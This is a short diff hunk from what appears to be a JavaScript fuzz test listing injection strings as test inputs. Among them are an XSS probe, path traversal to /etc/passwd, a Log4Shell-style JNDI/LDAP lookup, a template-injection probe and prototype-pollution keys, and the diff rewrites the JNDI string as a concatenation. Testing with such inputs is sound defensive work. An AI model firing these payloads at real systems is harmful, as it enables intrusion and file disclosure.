@@ -48,7 +48,7 @@ const injectionString = fc.constantFrom(
   "javascript:alert(1)",
   "../../../../etc/passwd",
   "..%2f..%2f",
-  "${jndi:ldap://x/a}",
+  "$" + "{jndi:ldap://x/a}",
   "{{7*7}}",
   "__proto__",
   "constructor",
